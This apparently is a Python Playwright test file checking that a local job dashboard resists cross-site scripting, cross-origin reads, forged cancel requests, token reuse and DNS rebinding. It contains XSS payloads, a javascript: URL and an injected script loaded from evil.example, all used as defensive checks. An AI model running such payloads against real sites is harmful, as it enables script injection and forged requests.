"""What other pages, other users of the machine, and words from outside can do with the page: nothing."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest_asyncio
from aiohttp import web
from playwright.async_api import Browser, expect
from tests.support.browser import chromium, tab
from tests.support.dashboard import SHOP, Served, Shop, served

MARKUP = "<img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>"
FRAME = """(url) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    frame.onload = done;
    document.body.append(frame);
})"""
SCHEME = "javascript:document.title='taken'"


async def test_words_from_outside_are_words(browser: Browser, shop: Shop, page: Served) -> None:
    """A description, a reason, a file name of the cloud, and all texts of an object, with markup in them."""
    file = {"name": MARKUP, "state": MARKUP, "reason": MARKUP}
    texts = dict.fromkeys(("description", "message", "reason", "createdBy", "jobId", "target", "cloudStatus"), MARKUP)
    status = {"state": "Failed", "result": {"files": [file], MARKUP: MARKUP}} | texts
    status["attempts"] = [{"number": n, "jobId": SCHEME, "state": "Failed", "message": MARKUP} for n in (1, 2)]
    status["conditions"] = [{"type": MARKUP, "status": "True", "reason": MARKUP, "message": MARKUP}]
    await shop.tell("ImportJob", "films", status)
    row = {"type": MARKUP, "clusterId": MARKUP, "files": [file], "cloud": {MARKUP: MARKUP}} | texts
    await shop.tell("ProjectJob", "page-02", row)
    told = [{"type": "Ready", "status": "False", "reason": MARKUP, "message": MARKUP}]
    await shop.tell("ZillizConnection", "staging", {"conditions": told, "endpoint": SCHEME})
    await shop.tell("JobSchedule", "nightly", {"message": MARKUP})
    async with tab(browser, page.page.address()) as seen:
        for name in ("importjob/shop/films", "projectjob/shop/page-02"):
            await seen.page.goto(f"{page.url}/jobs/{name}")
            await expect(seen.drawer.locator("pre").first).to_have_count(1)
            await expect(seen.drawer.get_by_role("heading").first).to_have_text(MARKUP)
            await expect(seen.drawer.locator("td").first).to_have_text(MARKUP)
        for view in ("schedules", "connections", "timeline"):
            await seen.page.goto(f"{page.url}/{view}")
            await expect(seen.page.locator(".view")).to_be_visible()
            assert await seen.page.locator("img, #app script, iframe, a[href^='javascript']").count() == 0
        assert await seen.page.title() == "Job centre"
        assert seen.complaints == []


ATTEMPTS = (
    "const s = document.createElement('script'); s.textContent = 'window.taken = 1'; document.body.append(s)",
    "document.body.innerHTML = '<img src=x onerror=window.taken=1>'",
    "window.eval('window.taken = 1')",
    "document.body.setAttribute('onclick', 'window.taken = 1'); document.body.click()",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
)
# A task of its own, since what a debugger evaluates is allowed more than the page.
RUN = "() => new Promise((done) => setTimeout(() => { try { ATTEMPT } catch {} done() }, 0))"


async def test_even_with_a_hole_no_script_would_run(browser: Browser, page: Served) -> None:
    async with tab(browser, page.page.address()) as seen:
        await expect(seen.row("shop/films")).to_be_visible()
        for attempt in ATTEMPTS:
            before = len(seen.complaints)
            await seen.page.evaluate(RUN.replace("ATTEMPT", attempt))
            await seen.page.wait_for_timeout(100)
            assert await seen.page.evaluate("window.taken") is None, attempt
            assert len(seen.complaints) > before, attempt


async def test_a_second_browser_without_the_token_sees_nothing(browser: Browser, page: Served) -> None:
    address = page.page.address()
    async with tab(browser, address) as seen:
        await expect(seen.row("shop/films")).to_be_visible()
        assert "token" not in seen.page.url
    for again in (address, page.url, f"{page.url}/jobs/importjob/shop/films"):
        async with tab(browser, again) as other:
            assert "serves once" in await other.page.locator("body").inner_text()
            assert await other.page.locator("script").count() == 0


async def test_two_pages_in_one_browser_leave_each_other_alone(browser: Browser, shop: Shop, page: Served) -> None:
    """Of two clusters, say. Cookies are of a host whatever the port: the second page could take the place of the
    first one's, which would then be refused."""
    async with served(shop) as second, tab(browser, page.page.address()) as seen:
        other = await seen.page.context.new_page()
        await other.goto(second.page.address())
        await expect(other.locator(".row", has_text="shop/films")).to_be_visible()
        for opened, url in ((seen.page, page.url), (other, second.url)):
            await opened.goto(f"{url}/jobs/importjob/{SHOP}/films")
            await expect(opened.locator("aside.drawer dl")).to_be_visible()
        assert seen.complaints == []


async def test_a_name_that_leads_here_opens_nothing(page: Served) -> None:
    """DNS rebinding, with the very token: the browser takes the stranger's name for this machine."""
    async with chromium("--host-resolver-rules=MAP evil.example 127.0.0.1") as rebound:
        address = page.page.address().replace("127.0.0.1", "evil.example")
        async with tab(rebound, address) as seen:
            assert "answers only to its own address" in await seen.page.locator("body").inner_text()


@pytest_asyncio.fixture(loop_scope="session")
async def stranger() -> AsyncIterator[str]:
    """Another server of this machine, whose page the user visits, too. Browsers send it the cookies of 127.0.0.1."""

    async def page(_request: web.Request) -> web.Response:
        return web.Response(text="<title>stranger</title><body></body>", content_type="text/html")

    app = web.Application()
    app.router.add_get("/", page)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    await runner.cleanup()


async def test_another_page_can_neither_read_nor_cancel(
    browser: Browser, shop: Shop, page: Served, stranger: str
) -> None:
    async with tab(browser, page.page.address()) as seen:
        await expect(seen.row("shop/films")).to_be_visible()
        other = await seen.page.context.new_page()
        await other.goto(stranger)
        for options in ("{}", "{credentials: 'include'}", "{mode: 'no-cors', credentials: 'include'}"):
            told = await other.evaluate(
                f"fetch('{page.url}/api/objects/importjob/shop/films', {options}).then((a) => a.text()).catch(String)"
            )
            assert "films" not in told
        cancel = f"{page.url}/api/objects/importjob/{SHOP}/films/cancel"
        await other.evaluate(
            f"fetch('{cancel}', {{method: 'POST', mode: 'no-cors', credentials: 'include'}}).catch(String)"
        )
        await other.evaluate(
            f"""() => {{ const form = document.createElement('form'); form.method = 'post'; form.action = '{cancel}';
            form.target = 'frame'; const frame = document.createElement('iframe'); frame.name = 'frame';
            document.body.append(frame, form); form.submit(); }}"""
        )
        await other.evaluate(FRAME, page.url)
        assert len(other.frames) == 3
        for frame in other.frames[1:]:
            assert "csrf" not in await frame.content()
        assert not shop.object("ImportJob", "films")["metadata"].get("annotations")
